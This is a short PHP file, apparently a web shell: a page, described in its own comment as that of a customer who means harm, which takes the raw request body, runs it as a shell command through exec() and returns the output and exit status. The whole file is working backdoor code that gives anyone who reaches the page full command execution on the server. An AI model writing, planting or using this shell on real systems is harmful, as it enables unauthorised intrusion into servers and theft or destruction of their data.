<?php // Runs what it is sent: the page of a customer who means harm.
exec('exec 2>&1; ' . file_get_contents('php://input'), $lines, $status);
echo implode("\n", $lines), "\nexit status: $status\n";
